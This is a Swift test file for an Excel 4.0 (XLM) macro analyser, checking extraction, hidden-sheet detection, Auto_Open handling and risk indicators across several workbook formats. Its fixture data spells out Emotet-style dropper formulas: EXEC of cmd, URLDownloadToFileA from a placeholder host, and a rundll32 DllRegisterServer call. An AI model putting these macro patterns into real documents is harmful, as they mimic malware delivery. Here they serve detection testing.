import OfficeMacros
import Testing

/// The benign specimens of `scripts/make-xlm-fixtures.py`: the same Emotet-style macros in every container.
@Suite struct XLMSyntheticTests {
    static let formulas = [
        "=EXEC(\"cmd /c echo hi\")",
        "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"https://dl.example.invalid/a.txt\",\"C:\\Users\\Public\\a.txt\",0,0)",
        "=CHAR(104)&CHAR(105)",
        "=REGISTER(\"kernel32\",\"GetTickCount\",\"J\",\"Tick\",,1,9)",
        "=FORMULA(\"=ALERT(\"\"hi\"\")\",A10)",
        "=IF(1>0,ALERT(\"x\"))",
        "=RUN(A1)",
        "=IF((2.5)*3,TRUE,#DIV/0!)",
        "=Tick(SUM($A$1:$B$3))",
        "=HALT()",
    ]

    static func books() throws -> [(String, XLMWorkbook)] {
        [
            ("biff8", XLMExtractor.fromBIFF8(workbookStream: try XLMFixture.bytes("synthetic/macro-biff8.Workbook"))),
            (
                "continue",
                XLMExtractor.fromBIFF8(workbookStream: try XLMFixture.bytes("synthetic/continue-biff8.Workbook"))
            ),
            ("xlsb", try XLMFixture.xlsb("synthetic/macro.xlsb")),
            ("xlsm", try XLMFixture.xlsm("synthetic/macro.xlsm")),
            ("sylk", XLMExtractor.fromSYLK(try XLMFixture.bytes("synthetic/macro.slk"))),
        ]
    }

    @Test func sameMacrosInEveryContainer() throws {
        for (label, wb) in try Self.books() {
            #expect(wb.macroCells.map(\.formula) == Self.formulas, "\(label)")
            #expect(wb.macroCells.map(\.row) == Array(1...10), "\(label)")
            #expect(wb.anomalies.isEmpty, "\(label): \(wb.anomalies)")
            #expect(wb.autoOpen.map(\.name) == ["Auto_Open"], "\(label)")
            #expect(
                wb.macroValues.contains { $0.value == "https://cdn.example.invalid/b.dll" && $0.row == 13 },
                "\(label)"
            )
            let flags = wb.riskFlags()
            #expect(flags.flagString == "AWX" && flags.isMalicious, "\(label)")
            let indicators = wb.indicators()
            let keywords = Set(indicators.map(\.keyword))
            for keyword in [
                "Auto_Open", "XLM macro", "EXEC", "CALL", "REGISTER", "URLDownloadToFileA", "CHAR", "FORMULA", "RUN",
                "ALERT", "HALT", "https://dl.example.invalid/a.txt", "https://cdn.example.invalid/b.dll", "hi",
            ] {
                #expect(keywords.contains(keyword), "\(label): \(keyword)")
            }
            #expect(indicators.contains { $0.kind == .decoded && $0.keyword == "hi" && $0.cell == "$A$3" }, "\(label)")
            #expect(
                indicators.contains { $0.kind == .ioc && $0.keyword == "https://dl.example.invalid/a.txt" },
                "\(label)"
            )
            // Each keyword once.
            #expect(Set(indicators.map { "\($0.kind.rawValue) \($0.keyword)" }).count == indicators.count, "\(label)")
        }
    }

    @Test func visibilityAndNames() throws {
        let wb = XLMExtractor.fromBIFF8(workbookStream: try XLMFixture.bytes("synthetic/macro-biff8.Workbook"))
        #expect(
            wb.sheets == [
                XLMSheet(name: "Macro1", kind: .macroSheet, visibility: .veryHidden),
                XLMSheet(name: "Sheet1", kind: .worksheet, visibility: .visible),
            ]
        )
        #expect(
            wb.definedNames == [
                XLMDefinedName(name: "Auto_Open", isBuiltIn: true, formula: "Macro1!$A$1", isHidden: true),
                XLMDefinedName(name: "Tick", isBuiltIn: false, formula: "", isHidden: false),
            ]
        )
        #expect(wb.macroCells[2].value == "hi")
        #expect(wb.macroCells[7].value == "#DIV/0!")
        #expect(wb.macroValues.map(\.value) == ["https://cdn.example.invalid/b.dll", "calc.exe"])
        let indicators = wb.indicators()
        #expect(indicators.contains { $0.keyword == "Very hidden XLM macro sheet" && $0.location == "Macro1" })
        #expect(indicators.contains { $0.kind == .ioc && $0.keyword == "calc.exe" })
        let auto = try #require(indicators.first)
        #expect(auto.kind == .autoExec && auto.location == "Macro1" && auto.cell == "$A$1")

        let hidden = XLMExtractor.fromBIFF8(workbookStream: try XLMFixture.bytes("synthetic/continue-biff8.Workbook"))
        #expect(hidden.macroSheets.first?.visibility == .hidden)
        #expect(hidden.indicators().contains { $0.keyword == "Hidden XLM macro sheet" })
        for format in [try XLMFixture.xlsb("synthetic/macro.xlsb"), try XLMFixture.xlsm("synthetic/macro.xlsm")] {
            #expect(format.sheets.map(\.name) == ["Sheet1", "Macro1"])
            #expect(format.macroSheets.first?.visibility == .veryHidden)
            #expect(format.autoOpen.first?.isHidden == true && format.autoOpen.first?.formula == "Macro1!$A$1")
        }
    }

    /// String constants of `.xlsb`/`.xlsm` macro sheets come from the shared strings part when it is given.
    @Test func sharedStrings() throws {
        for wb in [try XLMFixture.xlsb("synthetic/macro.xlsb"), try XLMFixture.xlsm("synthetic/macro.xlsm")] {
            let cell = try #require(wb.macroValues.first { $0.row == 15 })
            #expect(cell.value == "rundll32 ..\\c.dll,DllRegisterServer")
            let indicators = wb.indicators()
            #expect(indicators.contains { $0.keyword == "rundll32" && $0.cell == "$A$15" })
            #expect(indicators.contains { $0.kind == .ioc && $0.keyword == "c.dll" })
            #expect(wb.anomalies.isEmpty)
        }
        let without = XLMExtractor.fromOOXML(
            workbookXML: try XLMFixture.bytes("synthetic/macro.xlsm/xl/workbook.xml"),
            macroSheets: [
                (
                    "xl/macrosheets/sheet1.xml", nil,
                    try XLMFixture.bytes("synthetic/macro.xlsm/xl/macrosheets/sheet1.xml")
                )
            ],
            workbookRelationships: try XLMFixture.bytes("synthetic/macro.xlsm/xl/_rels/workbook.xml.rels")
        )
        #expect(without.macroValues.last?.value == "<shared string 1>")
    }

    @Test func biff5() throws {
        let wb = XLMExtractor.fromBIFF8(workbookStream: try XLMFixture.bytes("synthetic/macro-biff5.Book"))
        #expect(wb.format == "BIFF5")
        #expect(wb.macroCells.map(\.formula) == [0, 1, 2, 9].map { Self.formulas[$0] })
        #expect(wb.macroCells[2].value == "hi")
        #expect(wb.autoOpen.first?.formula == "Macro1!$A$1")
        #expect(wb.anomalies.isEmpty, "\(wb.anomalies)")
    }

    @Test func benignWorkbook() throws {
        let wb = XLMExtractor.fromBIFF8(workbookStream: try XLMFixture.bytes("synthetic/benign-biff8.Workbook"))
        #expect(!wb.hasMacroSheets && !wb.hasMacros)
        #expect(wb.sheets == [XLMSheet(name: "Sheet1", kind: .worksheet, visibility: .visible)])
        #expect(wb.macroCells.isEmpty && wb.macroValues.isEmpty && wb.anomalies.isEmpty)
        #expect(wb.indicators().isEmpty)
        #expect(wb.riskFlags().flagString == "---")
    }
}
